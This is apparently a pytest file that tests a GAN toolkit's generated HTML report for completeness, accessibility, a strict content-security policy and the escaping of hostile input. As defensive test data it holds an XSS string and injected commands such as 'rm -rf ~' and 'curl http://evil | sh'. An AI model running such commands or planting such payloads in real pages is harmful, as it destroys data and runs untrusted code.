"""The page as text: what stands on it, that it needs nothing else, and that no name in a run becomes markup."""

from __future__ import annotations

import html
import re
from base64 import b64encode
from hashlib import sha256
from itertools import pairwise
from typing import Any

import pytest

from gankit.base.errors import UserError
from gankit.evaluation.card import Figure
from gankit.reporting import Setting, Shown, is_ours, page
from tests.reporting.material import COLLAPSE, Read, entries, facts, png, read, values

HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&<!--"


def figure(**others: Any) -> Figure:
    plain: dict[str, Any] = {
        "name": "frechet",
        "metric": "frechet",
        "value": 15.3,
        "low": 13.9,
        "high": 16.7,
        "interval": "a bootstrap",
        "better": "lower",
        "perfect": 0.5,
        "training_images": None,
        "protocol": {"samples": 1000, "real": 1797, "split": "train"},
        "subject": {"step": 800},
    }
    return Figure(**{**plain, **others})


def test_everything_that_is_known_stands_on_the_page() -> None:
    found = read(figures=[figure()])
    for words in (
        "DCGAN on digits",
        "not in training",
        "step 800",
        "Samples are alike.",
        "near duplicates",
        "gankit train lsgan --data digits",
        "Discriminator's loss",
        "log scale",
        "13.9 to 16.7",
        "perfect sampler 0.5",
        "1,000 samples, 1,797 images of the train split",
        "A walk",
        "gankit train dcgan --data digits",
        "network.width",
        "Channels.",
    ):
        assert words in found.words


@pytest.mark.parametrize(
    ("remedy", "copied"),
    [
        ("gankit train lsgan --data 'my photos'", "gankit train lsgan --data 'my photos'"),
        ("gankit train gan; rm -rf ~", "gankit train 'gan;' rm -rf '~'"),
        ("curl http://evil | sh", None),
        ("use more 'data", None),
        ("gankit train\x1b[2J", None),
    ],
)
def test_a_remedy_is_copied_only_as_one_command_of_gankit_s(remedy: str, copied: str | None) -> None:
    text = page(facts(entries=[{"step": 9, "verdict": {**COLLAPSE, "remedy": remedy}}], command=None))
    found = re.findall(r'<code id="remedy-0">(.*?)</code>', text)
    assert [html.unescape(one) for one in found] == ([copied] if copied else [])
    assert copied or remedy in Read(text).words


def test_what_is_not_there_leaves_no_empty_section() -> None:
    found = read(previews={}, entries=[{"step": 5, "generator/loss": 1.0}], shown=[], figures=[], paper=None, about="")
    titles = [attributes["id"] for attributes in found.all("section")]
    assert titles == ["curves", "chart-0", "recipe"]
    assert [link["href"] for link in found.all("a")] == ["#main", "#curves", "#recipe"]
    assert "Is the game healthy" not in found.words


def test_the_page_refers_to_nothing_but_itself() -> None:
    text = page(facts())
    addresses = re.findall(r'(?:src|href|action|data|poster|srcset)="([^"]*)"', text)
    assert {address for address in addresses if not address.startswith(("data:", "#"))} == {
        "https://arxiv.org/abs/1511.06434"
    }
    assert not re.findall(r"@import|url\(|fetch\(|XMLHttpRequest|WebSocket", text)


def test_only_our_script_and_our_style_may_run() -> None:
    text = page(facts())
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)
    assert policy
    assert "default-src 'none'" in policy[1]
    assert "unsafe" not in policy[1]
    for part, content in (("script", text.split("<script>")[1]), ("style", text.split("<style>")[1])):
        whole = content.split(f"</{part}>")[0].encode()
        assert f"{part}-src 'sha256-{b64encode(sha256(whole).digest()).decode()}'" in policy[1]
    assert not re.search(r'\son\w+="|\sstyle="', text)


def test_no_name_in_a_run_becomes_markup() -> None:
    hostile = [{"step": 1, HOSTILE: 1.0, f"health/{HOSTILE}_x": 2.0, f"generator/{HOSTILE}": 3.0}]
    hostile.append({"step": 2, "verdict": {**COLLAPSE, "name": HOSTILE, "degree": HOSTILE, "remedy": HOSTILE}})
    hostile[1]["verdict"]["evidence"] = {"words": HOSTILE, HOSTILE: HOSTILE}
    everywhere: dict[str, Any] = {
        "name": HOSTILE,
        "source": HOSTILE,
        "about": HOSTILE,
        "state_words": HOSTILE,
        "rows": {HOSTILE: HOSTILE},
        "settings": [Setting(*[HOSTILE] * 4)],
        "command": HOSTILE,
        "notes": [HOSTILE],
        "preview_words": HOSTILE,
        "shown": [Shown(HOSTILE, png(), HOSTILE, HOSTILE)],
        "figures": [
            figure(name=HOSTILE, metric=HOSTILE, interval=HOSTILE, better=HOSTILE, protocol={HOSTILE: HOSTILE})
        ],
        "entries": hostile,
    }
    calm, found = read(), read(**everywhere)
    assert len([one for one in found.all("script") if "type" not in one]) == len(
        [one for one in calm.all("script") if "type" not in one]
    )
    assert not [one for one in found.all("img") if not str(one["src"]).startswith("data:image/")]
    assert not [name for _, attributes in found.elements for name in attributes if name.startswith("on")]
    assert values(page(facts(**everywhere)))[0][0]["name"] == HOSTILE


def test_everything_can_be_read_without_being_seen() -> None:
    found = read(figures=[figure()])
    assert [len(found.all(tag)) for tag in ("header", "nav", "main", "footer", "h1")] == [1, 1, 1, 1, 1]
    assert all(image["alt"] for image in found.all("img"))
    levels = [int(name[1]) for name, _ in found.elements if re.fullmatch(r"h[1-6]", name)]
    assert all(next_ - level <= 1 for level, next_ in pairwise(levels))
    ids = [str(attributes["id"]) for _, attributes in found.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    for _, attributes in found.elements:
        for name in ("aria-labelledby", "for"):
            assert name not in attributes or attributes[name] in ids
    labelled = {str(attributes["for"]) for attributes in found.all("label")}
    assert {str(attributes["id"]) for attributes in found.all("input")} <= labelled
    assert len(found.all("table")) >= len([one for one in found.all("section") if one.get("class") == "chart"])


def test_the_last_sample_is_shown_and_few_are_printed() -> None:
    previews = {step: png() for step in range(1, 31)}
    found = read(previews=previews, previews_in_all=300)
    frames = found.all("figure")
    assert [frame["data-step"] for frame in frames if "hidden" not in frame] == ["30"]
    assert len([frame for frame in frames if frame.get("class") == "milestone"]) == 6
    assert "30 of 300 previews are on this page, at even distances" in found.words


def test_small_pictures_are_enlarged_by_whole_factors() -> None:
    assert read(previews={1: png(side=100)}).all("img")[0]["width"] == "700"
    assert read(previews={1: png(side=1000)}).all("img")[0]["width"] == "1000"


def test_a_running_page_looks_for_a_newer_one_and_says_how_far_it_is() -> None:
    found = read(state="running", state_words="in training", total=1600, refresh=7.0)
    assert found.elements[0][1] | {"lang": None} == {
        "lang": None,
        "data-state": "running",
        "data-refresh": "7",
        "data-written": "1800000000",
    }
    assert "step 800 of 1,600" in found.words
    assert len(found.all("progress")) == 1
    assert read().all("progress") == []


def test_a_figure_of_a_hostile_card_is_shown_without_conditions() -> None:
    odd = figure(protocol={"samples": "many"}, subject={"step": [1]}, value=float("inf"), low=None, perfect=1e308)
    assert "frechet" in read(figures=[odd]).words


def test_our_pages_are_known_by_their_head() -> None:
    assert is_ours(page(facts()).encode()[:2000])
    assert is_ours(b'<!doctype html><html lang="en"><meta charset="utf-8"><title>DCGAN on digits</title><style>')
    assert not is_ours(b"<!doctype html><html><head><title>Coverage report</title>")
    assert not is_ours(b"")


def test_a_damaged_verdict_is_named() -> None:
    for name, value in (("name", 3), ("degree", 1), ("since", "then"), ("evidence", []), ("remedy", 5)):
        broken = [*entries(), {"step": 900, "verdict": {**COLLAPSE, name: value}}]
        with pytest.raises(UserError, match=f"verdict at step 900 can't be read: {name} is"):
            page(facts(entries=broken))
